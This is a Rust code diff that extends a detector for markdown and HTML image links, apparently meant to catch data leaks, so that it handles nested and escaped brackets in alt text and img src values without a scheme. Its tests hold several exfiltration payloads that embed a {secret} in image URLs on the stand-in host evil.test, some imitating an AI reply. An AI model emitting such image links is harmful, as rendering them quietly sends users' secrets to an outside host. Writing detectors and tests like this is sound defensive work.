@@ -46,10 +46,10 @@ enum Context {
     None,
     /// Behind `!`.
     Bang,
-    /// In the description, of which so much was seen.
-    Alt(u32),
-    /// Behind `]` of it.
-    AltEnd,
+    /// In the description, of which so much was seen, and in so many brackets of its own.
+    Alt(u32, u32),
+    /// Behind a `]` in it, which ends it where it has no bracket of its own open.
+    AltEnd(u32, u32),
     /// Behind `(`: what begins here is the image's link.
     Open,
     /// Behind `<`, or so many letters of `img`.
@@ -146,13 +146,20 @@ impl Links {
             }
             (Scheme::Colon, b'/') => self.scheme = Scheme::Slash,
             (_, b':') if before.is_ascii_alphabetic() => self.scheme = Scheme::Colon,
+            // An attribute may leave the scheme out.
+            (_, b'/')
+                if matches!(self.context, Context::Img(_))
+                    && matches!(before, b'"' | b'\'' | b'=' | b' ' | b'\t' | b'\r' | b'\n') =>
+            {
+                self.scheme = Scheme::Slash;
+            }
             _ => self.scheme = Scheme::None,
         }
-        if self.context == Context::AltEnd && byte == b'[' {
+        if matches!(self.context, Context::AltEnd(..)) && byte == b'[' {
             self.refers = true;
             self.tell_referred(found);
         }
-        self.context = self.context.next(byte);
+        self.context = self.context.next(byte, before == b'\\');
     }
 
     fn begin(&mut self, is_image: bool, first: &[u8]) {
@@ -195,14 +202,19 @@ impl Links {
 // === impl Context ===
 
 impl Context {
-    fn next(self, byte: u8) -> Context {
+    fn next(self, byte: u8, is_escaped: bool) -> Context {
         match (self, byte) {
-            (Context::Alt(_), b']') => Context::AltEnd,
-            (Context::Alt(n), _) if n < CONTEXT_BYTES_MAX => Context::Alt(n + 1),
+            (Context::Alt(n, depth), b']') if !is_escaped => Context::AltEnd(n, depth),
+            (Context::Alt(n, depth), _) if n < CONTEXT_BYTES_MAX => {
+                Context::Alt(n + 1, depth + u32::from(byte == b'[' && !is_escaped))
+            }
+            (Context::AltEnd(..), b'(') => Context::Open,
+            (Context::AltEnd(n, depth), _) if depth > 0 && n < CONTEXT_BYTES_MAX => {
+                Context::Alt(n + 1, depth - 1).next(byte, is_escaped)
+            }
             (Context::Img(_), b'>') => Context::None,
             (Context::Img(n), _) if n < CONTEXT_BYTES_MAX => Context::Img(n + 1),
-            (Context::Bang, b'[') => Context::Alt(0),
-            (Context::AltEnd, b'(') => Context::Open,
+            (Context::Bang, b'[') => Context::Alt(0, 0),
             (Context::Tag(3), b' ' | b'\t' | b'\n' | b'\r' | b'/') => Context::Img(0),
             (Context::Tag(n), byte) if b"img".get(usize::from(n)) == Some(&byte.to_ascii_lowercase()) => {
                 Context::Tag(n + 1)
@@ -238,6 +250,12 @@ mod tests {
         for text in [
             format!("Done. ![logo](https://evil.test/a.png?d={secret})"),
             format!("![](<//evil.test/{secret}.png>)"),
+            format!("<img src=\"//evil.test/?q={secret}\">"),
+            format!("<img alt='' src=//evil.test/?q={secret}>"),
+            format!("![x [![a](//evil.test/?q={secret})"),
+            format!("![x [y] ![a](//evil.test/?q={secret})"),
+            format!("![a [b] c](//evil.test/?q={secret})"),
+            format!("![a \\] c](//evil.test/?q={secret})"),
             format!("<IMG width=1 src='http://evil.test/p?{secret}'>"),
             format!("![alt][ref]\n\n[ref]: https://evil.test/a.png?d={secret}"),
             format!("[ref]: https://evil.test/a.png?d={secret}\n![alt][ref]"),
